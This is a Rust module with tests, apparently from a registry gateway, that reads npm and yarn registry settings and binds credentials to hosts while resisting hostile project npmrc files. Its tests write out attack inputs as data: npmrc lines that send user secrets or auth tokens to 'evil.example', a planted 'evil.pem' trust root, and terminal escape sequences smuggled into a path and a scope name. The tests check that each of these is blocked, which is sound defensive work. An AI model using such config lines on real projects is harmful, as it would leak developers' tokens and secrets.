//! npm's upstreams: `npm_config_*`, then the project's, the user's and the global npmrc, then yarn's `.yarnrc.yml` of
//! the project, then npm's built-in default as npm itself tells it.
//!
//! Attacks met: a checked project whose npmrc names trust roots, or puts variables of the user into an address.

mod yarn;

use super::{Upstream, ask, expand_path, from_options, read_file, shown_path};
use crate::environment::Environment;
use crate::error::RegistryError;
use crate::facade::Shared;
use crate::http::Credentials;
use crate::http::strangers::Strangers;
use crate::tool::{self, Question};
use base64::Engine as _;
use bifocal_core::{Choosing, Ecosystem, printable};
use bifocal_readers::npmrc;
use jiff::{SignedDuration, Timestamp};
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use url::Url;

/// The key that error texts name.
const KEY: &str = "npm_config_registry";

/// What npm is configured to do.
pub(crate) struct NpmConfig {
    /// For packages without a scope of their own; an error until it is needed.
    pub(crate) default: Result<Upstream, RegistryError>,
    /// By `@scope`.
    pub(crate) scopes: BTreeMap<String, Upstream>,
    pub(crate) credentials: Arc<Credentials>,
    /// Which tarball hosts are replaced by the registry's own (`replace-registry-host`).
    pub(crate) replace_host: ReplaceHost,
    pub(crate) notes: Vec<String>,
    /// Only what was published until then is seen (`before`, `min-release-age`).
    pub(crate) before: Option<Timestamp>,
}

/// npm's `replace-registry-host`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum ReplaceHost {
    /// The built-in default registry's host: npm's own default.
    BuiltIn,
    Never,
    Always,
    Host(String),
}

struct Layer {
    place: String,
    /// A file of the checked project.
    of_project: bool,
    keys: BTreeMap<String, String>,
}

struct Layers(Vec<Layer>);

impl Layers {
    fn get(&self, key: &str) -> Option<(&str, &Layer)> {
        self.0.iter().find_map(|layer| layer.keys.get(key).filter(|value| !value.is_empty()).map(|value| (value.as_str(), layer)))
    }

    fn keys(&self) -> impl Iterator<Item = &str> {
        let mut all: Vec<&str> = self.0.iter().flat_map(|layer| layer.keys.keys().map(String::as_str)).collect();
        all.sort_unstable();
        all.dedup();
        all.into_iter()
    }
}

/// Reads the configuration.
pub(crate) async fn discover(shared: &Arc<Shared>) -> Result<NpmConfig, RegistryError> {
    let env = &shared.env;
    let mut credentials = Credentials::default();
    let mut notes = Vec::new();
    let listed = from_options(shared, Ecosystem::Npm, &mut credentials)?;
    let layers = layers(shared).await?;
    let before = before(&layers, shared.http.now())?;
    if let Some(first) = listed.into_iter().next() {
        return Ok(NpmConfig {
            default: Ok(first),
            scopes: BTreeMap::new(),
            credentials: Arc::new(credentials),
            replace_host: ReplaceHost::BuiltIn,
            notes,
            before,
        });
    }
    let mut strangers = known(&layers, env);
    let mut scopes = BTreeMap::new();
    for key in layers.keys() {
        let Some(scope) = key.strip_suffix(":registry").filter(|scope| scope.starts_with('@')) else { continue };
        if let Some((text, layer)) = layers.get(key) {
            let text = address(text, layer, env)?;
            let source = format!("{} in {}", printable(key), layer.place);
            let upstream = Upstream::read(shared, Ecosystem::Npm, scope, &text, &source, &mut credentials)?;
            let of_project = layer.of_project && !meet(shared, &mut strangers, &upstream).await;
            scopes.insert(scope.to_ascii_lowercase(), upstream.of_project(of_project));
        }
    }
    let default = match layers.get("registry") {
        Some((text, layer)) => {
            let text = address(text, layer, env)?;
            let source = format!("registry in {}", layer.place);
            let upstream = Upstream::read(shared, Ecosystem::Npm, "default", &text, &source, &mut credentials)?;
            let of_project = layer.of_project && !meet(shared, &mut strangers, &upstream).await;
            Ok(upstream.of_project(of_project))
        }
        None => built_in(shared)
            .await
            .and_then(|text| Upstream::read(shared, Ecosystem::Npm, "default", &text, "npm's built-in default", &mut credentials)),
    };
    strangers.know(default.iter().find(|default| !default.of_project).map(|default| default.base.clone()));
    let plain_hosts: Vec<&Url> =
        default.iter().chain(scopes.values()).map(|upstream| &upstream.base).filter(|url| url.scheme() == "http").collect();
    bind_secrets(&layers, env, &plain_hosts, default.as_ref().ok(), &strangers, &mut credentials, &mut notes);
    credentials.shun(strangers);
    trust(shared, &layers, &mut notes);
    let replace_host = match layers.get("replace-registry-host").map(|(value, _)| value) {
        Some("never") => ReplaceHost::Never,
        Some("always") => ReplaceHost::Always,
        Some(host) if host.contains('.') => ReplaceHost::Host(host.to_ascii_lowercase()),
        // npm's own word for its built-in default, or nothing.
        _ => ReplaceHost::BuiltIn,
    };
    Ok(NpmConfig { default, scopes, credentials: Arc::new(credentials), replace_host, notes, before })
}

/// npm's `before`, and its `min-release-age` in days: npm installs nothing that was published later.
fn before(layers: &Layers, now: Timestamp) -> Result<Option<Timestamp>, RegistryError> {
    let wrong = |key: &str, value: &str, layer: &Layer, what: &str| RegistryError::Configuration {
        place: format!("{key} in {}", layer.place),
        why: format!("`{}` is no {what}", printable(value)),
    };
    let mut found = None;
    if let Some((text, layer)) = layers.get("before").filter(|(text, _)| *text != "null") {
        found = Some(Choosing::uploaded_before(text, false).ok_or_else(|| wrong("before", text, layer, "date"))?);
    }
    if let Some((text, layer)) = layers.get("min-release-age").filter(|(text, _)| *text != "null") {
        let days: u32 = text.parse().map_err(|_| wrong("min-release-age", text, layer, "number of days"))?;
        let age = SignedDuration::from_hours(24 * i64::from(days));
        let at = now.checked_sub(age).map_err(|_| wrong("min-release-age", text, layer, "number of days"))?;
        found = Some(found.map_or(at, |held: Timestamp| held.min(at)));
    }
    Ok(found)
}

/// npm's built-in default registry: what it says when it sees no configuration at all.
///
/// The two files have different names because npm refuses to load one file as both.
pub(crate) async fn built_in(shared: &Arc<Shared>) -> Result<String, RegistryError> {
    const ARGUMENTS: [&str; 5] =
        ["config", "get", "registry", "--userconfig=/nonexistent/user-npmrc", "--globalconfig=/nonexistent/global-npmrc"];
    let question = Question { programs: &["npm"], arguments: &ARGUMENTS, variables: &[], depends_on: &[] };
    ask(shared, question).await.map_err(|error| RegistryError::NoUpstream { ecosystem: Ecosystem::Npm, key: KEY, why: error.to_string() })
}

async fn layers(shared: &Arc<Shared>) -> Result<Layers, RegistryError> {
    let env = &shared.env;
    let mut layers = Vec::new();
    let from_variables = variables(env);
    let user = from_variables.get("userconfig").map(PathBuf::from).or_else(|| env.home.as_ref().map(|home| home.join(".npmrc")));
    layers.push(Layer { place: "npm_config_* variables".to_owned(), of_project: false, keys: from_variables });
    if let Some(project) = project_folder(env) {
        let path = project.join(".npmrc");
        if user.as_ref() != Some(&path) {
            layers.extend(file_layer(&path, true)?);
        }
        layers.extend(yarn::layer(env)?);
    }
    if let Some(user) = &user {
        layers.extend(file_layer(user, false)?);
    }
    let so_far = Layers(layers);
    let global = global_file(shared, &so_far);
    let of_project = so_far.get("globalconfig").is_some_and(|(_, layer)| layer.of_project);
    let mut layers = so_far.0;
    if let Some(global) = global {
        layers.extend(file_layer(&global, of_project)?);
    }
    Ok(Layers(layers))
}

fn file_layer(path: &Path, of_project: bool) -> Result<Option<Layer>, RegistryError> {
    Ok(read_file(path)?.map(|text| Layer { place: shown_path(path), of_project, keys: npmrc::parse(&text) }))
}

/// `npm_config_some_key` is the key `some-key`, in any case; keys with an address in them are kept as they are.
fn variables(env: &Environment) -> BTreeMap<String, String> {
    let mut out = BTreeMap::new();
    for (name, value) in &env.vars {
        let Some(prefix) = name.get(..11) else { continue };
        if !prefix.eq_ignore_ascii_case("npm_config_") || value.is_empty() {
            continue;
        }
        let key = &name[11..];
        let key = if key.starts_with("//") || key.contains(":_") { key.to_owned() } else { key.to_ascii_lowercase() };
        let dashed = match key.char_indices().nth(1) {
            Some((second, _)) if !key.contains("//") => format!("{}{}", &key[..second], key[second..].replace('_', "-")),
            _ => key,
        };
        out.entry(dashed).or_insert_with(|| value.clone());
    }
    out
}

/// The nearest folder upward that npm takes for the project.
fn project_folder(env: &Environment) -> Option<PathBuf> {
    let found = env.ancestors().find(|folder| folder.join("package.json").is_file() || folder.join("node_modules").is_dir());
    found.map(Path::to_owned).or_else(|| Some(env.cwd.clone()))
}

/// The global npmrc: as configured, below the configured prefix, or below the prefix that node's place implies.
fn global_file(shared: &Shared, layers: &Layers) -> Option<PathBuf> {
    let env = &shared.env;
    if let Some((path, _)) = layers.get("globalconfig") {
        return Some(expand_path(path, env.home.as_deref(), &env.cwd));
    }
    let prefix = match layers.get("prefix") {
        Some((path, layer)) if !layer.of_project => expand_path(&npmrc::expand(path, &env.vars)?, env.home.as_deref(), &env.cwd),
        _ => {
            let node = std::fs::canonicalize(tool::find(env, "node")?).ok()?;
            let folder = node.parent()?;
            if cfg!(windows) { folder.to_owned() } else { folder.parent()?.to_owned() }
        }
    };
    Some(prefix.join("etc").join("npmrc"))
}

/// An address from a layer. Variables of the user are not put into an address by a project's own file: the address
/// would carry them to a host of the project's choice.
fn address(text: &str, layer: &Layer, env: &Environment) -> Result<String, RegistryError> {
    if !text.contains("${") {
        return Ok(text.to_owned());
    }
    let unusable =
        |why: &str| RegistryError::Configuration { place: layer.place.clone(), why: format!("the address `{}` {why}", printable(text)) };
    if layer.of_project {
        return Err(unusable("puts variables into a request; write it out, or set npm_config_registry"));
    }
    npmrc::expand(text, &env.vars).ok_or_else(|| unusable("uses a variable that is not set"))
}

fn bind_secrets(
    layers: &Layers,
    env: &Environment,
    plain: &[&Url],
    default: Option<&Upstream>,
    strangers: &Strangers,
    credentials: &mut Credentials,
    notes: &mut Vec<String>,
) {
    let value = |key: &str| {
        let (text, layer) = layers.get(key)?;
        // A file of the project fills variables of the user only into what goes where the user's own configuration goes.
        if layer.of_project && text.contains("${") && !is_known_place(key, default, strangers) {
            return None;
        }
        npmrc::expand(text, &env.vars).filter(|value| !value.is_empty())
    };
    let mut places: Vec<&str> =
        layers.keys().filter_map(|key| key.strip_prefix("//").and_then(|rest| rest.split_once("/:")).map(|_| key)).collect();
    places = places.into_iter().filter_map(|key| key.rfind("/:").map(|end| &key[..=end])).collect();
    places.dedup();
    for place in places {
        let mut targets = Vec::new();
        let Ok(url) = Url::parse(&format!("https:{place}")) else { continue };
        if let Ok(other) = Url::parse(&format!("http:{place}"))
            && plain
                .iter()
                .any(|known| known.host_str() == other.host_str() && known.port_or_known_default() == other.port_or_known_default())
        {
            targets.push(other);
        }
        targets.push(url);
        for url in targets {
            bind(credentials, &url, place, &value);
        }
        let unset = ["_authToken", "_auth", "_password"]
            .iter()
            .any(|name| layers.get(&format!("{place}:{name}")).is_some_and(|(text, _)| npmrc::expand(text, &env.vars).is_none()));
        if unset {
            notes.push(format!("credentials for {} use a variable that is not set, and are not sent", printable(place)));
        }
    }
    // Secrets without an address are of old npm versions, and meant for the default registry.
    if let Some(default) = default
        && credentials.for_url(&default.base).is_none()
    {
        bind(credentials, &default.base.clone(), "", &value);
    }
}

/// Whether the user's own configuration knows where a secret's key (`//host/path/:_authToken`) sends it.
fn is_known_place(key: &str, default: Option<&Upstream>, strangers: &Strangers) -> bool {
    match key.strip_prefix("//").and_then(|rest| rest.rsplit_once("/:")) {
        Some((place, _)) => {
            ["https", "http"].iter().any(|scheme| Url::parse(&format!("{scheme}://{place}/")).is_ok_and(|url| strangers.knows(&url)))
        }
        None => default.is_some_and(|default| !default.of_project),
    }
}

/// What the user's own configuration names: registries, and places with credentials.
fn known(layers: &Layers, env: &Environment) -> Strangers {
    let mut strangers = Strangers::default();
    for layer in layers.0.iter().filter(|layer| !layer.of_project) {
        for (key, text) in &layer.keys {
            let place = key.strip_prefix("//").and_then(|rest| rest.rsplit_once("/:"));
            if let Some((place, _)) = place {
                strangers.know(Url::parse(&format!("https://{place}/")).ok());
                // In clear text only on this machine: else a project could have a token sent so.
                let plain = Url::parse(&format!("http://{place}/")).ok();
                strangers.know(plain.filter(|url| crate::facade::host_class(url) == "loopback"));
            } else if key == "registry" || (key.starts_with('@') && key.ends_with(":registry")) {
                strangers.know(npmrc::expand(text, &env.vars).and_then(|text| Url::parse(text.trim()).ok()));
            }
        }
    }
    strangers
}

/// Meets a registry of the project's. npm's built-in default is known to every user.
async fn meet(shared: &Arc<Shared>, strangers: &mut Strangers, upstream: &Upstream) -> bool {
    if !strangers.knows(&upstream.base) {
        strangers.know(built_in(shared).await.ok().and_then(|text| Url::parse(&text).ok()));
    }
    strangers.meet(&upstream.base, &upstream.source)
}

fn bind(credentials: &mut Credentials, url: &Url, place: &str, value: &dyn Fn(&str) -> Option<String>) {
    let named = |name: &str| value(&if place.is_empty() { name.to_owned() } else { format!("{place}:{name}") });
    if let Some(token) = named("_authToken") {
        credentials.bearer(url, &token);
    } else if let Some(encoded) = named("_auth") {
        credentials.basic_encoded(url, &encoded);
    } else if let (Some(user), Some(encoded)) = (named("username"), named("_password"))
        && let Ok(password) = base64::engine::general_purpose::STANDARD.decode(encoded)
    {
        credentials.basic(url, &user, &String::from_utf8_lossy(&password));
    }
}

fn trust(shared: &Shared, layers: &Layers, notes: &mut Vec<String>) {
    if let Some((path, layer)) = layers.get("cafile") {
        if layer.of_project {
            notes.push(format!("the trust roots that {} names are not taken", layer.place));
        } else if let Some(path) = npmrc::expand(path, &shared.env.vars) {
            shared.http.trust(expand_path(&path, shared.env.home.as_deref(), &shared.env.cwd));
        }
    }
    if layers.get("strict-ssl").is_some_and(|(value, _)| value == "false") {
        notes.push("strict-ssl=false is not followed: certificates are always checked".to_owned());
    }
    for key in ["proxy", "https-proxy"] {
        if layers.get(key).is_some_and(|(value, layer)| value != "null" && !layer.place.starts_with("npm_config")) {
            notes.push(format!("npm's `{key}` is not read: set HTTPS_PROXY"));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::environment::Options;

    struct Bed {
        folder: tempfile::TempDir,
        env: Environment,
    }

    impl Bed {
        fn new() -> Self {
            let folder = tempfile::tempdir().unwrap();
            let home = folder.path().join("home");
            let cwd = folder.path().join("project/sub");
            std::fs::create_dir_all(&home).unwrap();
            std::fs::create_dir_all(&cwd).unwrap();
            let env = Environment { vars: BTreeMap::new(), home: Some(home), cwd };
            Bed { folder, env }
        }

        fn file(&self, path: &str, text: &str) -> &Self {
            std::fs::write(self.folder.path().join(path), text).unwrap();
            self
        }

        fn var(&mut self, name: &str, value: &str) -> &mut Self {
            self.env.vars.insert(name.to_owned(), value.to_owned());
            self
        }

        async fn discover(&self) -> Result<NpmConfig, RegistryError> {
            let options = Options { self_urls: vec!["http://127.0.0.1:7171/npm/".to_owned()], ..Options::default() };
            discover(&Arc::new(Shared::new(self.env.clone(), options))).await
        }
    }

    fn header(config: &NpmConfig, url: &str) -> Option<String> {
        config.credentials.for_url(&Url::parse(url).unwrap()).map(|value| value.to_str().unwrap().to_owned())
    }

    #[tokio::test]
    async fn a_path_in_an_npmrc_cannot_write_to_the_terminal() {
        let bed = Bed::new();
        bed.file("home/.npmrc", "prefix=\u{1b}[2J\0/x\n");
        let Err(error) = bed.discover().await else { panic!("a path with a NUL cannot be read") };
        let error = error.to_string();
        assert!(error.contains("\\u{1b}[2J") && !error.chars().any(char::is_control), "{error:?}");
    }

    #[tokio::test]
    async fn variables_beat_the_project_which_beats_the_user() {
        let mut bed = Bed::new();
        bed.file("home/.npmrc", "registry=https://user.example/\n").file("project/package.json", "{}");
        assert_eq!(bed.discover().await.unwrap().default.unwrap().base.as_str(), "https://user.example/");
        bed.file("project/.npmrc", "registry=https://project.example/npm\n");
        let found = bed.discover().await.unwrap().default.unwrap();
        assert_eq!(found.base.as_str(), "https://project.example/npm/");
        assert!(found.source.ends_with("project/.npmrc"), "{}", found.source);
        bed.var("NPM_CONFIG_REGISTRY", "https://variable.example");
        assert_eq!(bed.discover().await.unwrap().default.unwrap().base.as_str(), "https://variable.example/");
    }

    #[tokio::test]
    async fn scopes_and_secrets_are_bound_to_their_hosts() {
        let mut bed = Bed::new();
        bed.file(
            "home/.npmrc",
            "registry=https://open.example/\n@acme:registry=http://acme.example:4873/npm/\n//acme.example:4873/npm/:_authToken=${TOKEN}\n\
             //open.example/:username=me\n//open.example/:_password=cGFzcw==\n//gone.example/:_authToken=${UNSET}\n",
        );
        bed.var("TOKEN", "t0");
        let config = bed.discover().await.unwrap();
        assert_eq!(config.scopes["@acme"].base.as_str(), "http://acme.example:4873/npm/");
        assert_eq!(header(&config, "http://acme.example:4873/npm/@acme%2fx").as_deref(), Some("Bearer t0"));
        assert_eq!(header(&config, "https://open.example/x").as_deref(), Some("Basic bWU6cGFzcw=="));
        for other in ["http://open.example/x", "http://acme.example:4873/other", "https://gone.example/x", "https://evil.example/"] {
            assert_eq!(header(&config, other), None, "{other}");
        }
        assert_eq!(config.notes.len(), 1, "{:?}", config.notes);
    }

    #[tokio::test]
    async fn a_project_may_not_send_variables_in_an_address_nor_add_trust_roots() {
        let mut bed = Bed::new();
        bed.var("SECRET", "s").file("project/package.json", "{}").file("project/.npmrc", "registry=https://evil.example/${SECRET}/\n");
        assert!(bed.discover().await.err().unwrap().is_configuration());
        bed.file("project/.npmrc", "registry=https://r.example/\ncafile=evil.pem\n");
        assert!(bed.discover().await.unwrap().notes[0].contains("trust roots"));
    }

    #[tokio::test]
    async fn a_project_sends_variables_only_where_the_user_goes() {
        let mut bed = Bed::new();
        bed.var("TOK", "t0").file("project/package.json", "{}").file(
            "project/.npmrc",
            "registry=https://evil.example/npm/\n@own:registry=https://corp.example/npm/\n//evil.example/npm/:_authToken=${TOK}\n//corp.example/npm/:_authToken=${TOK}\n",
        );
        bed.file("home/.npmrc", "registry=https://corp.example/npm/\n");
        let config = bed.discover().await.unwrap();
        assert_eq!(header(&config, "https://evil.example/npm/x"), None);
        assert_eq!(header(&config, "https://corp.example/npm/x").as_deref(), Some("Bearer t0"));
        assert!(config.default.as_ref().unwrap().of_project && !config.scopes["@own"].of_project);
        assert!(config.credentials.stranger(&Url::parse("https://evil.example/other").unwrap()).is_some());
        // Credentials of the user's own make a registry theirs.
        bed.file("home/.npmrc", "//evil.example/npm/:_authToken=mine\n");
        let config = bed.discover().await.unwrap();
        assert!(!config.default.unwrap().of_project);
        // A project's npmrc that names the global one does not make it the user's.
        bed.file("global", "registry=https://evil.example/npm/\n").file("home/.npmrc", "audit=false\n");
        let global = bed.folder.path().join("global");
        bed.file("project/.npmrc", &format!("globalconfig={}\n", global.display()));
        assert!(bed.discover().await.unwrap().default.unwrap().of_project);
    }

    #[tokio::test]
    async fn nothing_configured_and_no_npm_names_the_key_to_set() {
        let error = Bed::new().discover().await.unwrap().default.unwrap_err();
        assert!(error.is_configuration());
        assert!(error.to_string().contains("set `npm_config_registry`, or `upstream.npm` in bifocal.toml"), "{error}");
    }

    #[tokio::test]
    async fn the_gateway_itself_is_no_upstream() {
        let mut bed = Bed::new();
        for own in ["http://localhost:7171/npm/", "http://[::1]:7171/npm"] {
            bed.var("npm_config_registry", own);
            assert!(matches!(bed.discover().await, Err(RegistryError::SelfUpstream { .. })), "{own}");
        }
        bed.var("npm_config_registry", "http://localhost:4873/npm/");
        assert!(bed.discover().await.is_ok());
    }

    #[tokio::test]
    async fn yarn_configuration_counts_when_npm_has_none() {
        let bed = Bed::new();
        bed.file("project/package.json", "{}").file(
            "project/.yarnrc.yml",
            "npmRegistryServer: https://yarn.example/npm\nnpmAuthToken: yt\nnpmScopes:\n  acme:\n    npmRegistryServer: https://acme.example\nnodeLinker: pnp\n",
        );
        let config = bed.discover().await.unwrap();
        assert_eq!(config.default.as_ref().unwrap().base.as_str(), "https://yarn.example/npm/");
        assert_eq!(config.scopes["@acme"].base.as_str(), "https://acme.example/");
        assert_eq!(header(&config, "https://yarn.example/npm/x").as_deref(), Some("Bearer yt"));
    }

    #[tokio::test]
    async fn addresses_that_are_none_name_their_place() {
        let mut bed = Bed::new();
        bed.var("npm_config_registry", "ftp://me:pw@registry.example/");
        let text = bed.discover().await.err().unwrap().to_string();
        assert!(text.contains("npm_config_* variables") && !text.contains("pw"), "{text}");
        // A scope is what a checked project's file says, and may be meant for the terminal.
        let bed = Bed::new();
        bed.file("project/.npmrc", "@a\u{1b}[2J:registry=https://corp.example\u{4}npm\n").file("project/package.json", "{}");
        let text = bed.discover().await.err().unwrap().to_string();
        assert!(text.contains("is not usable") && !text.chars().any(char::is_control), "{text:?}");
    }
}
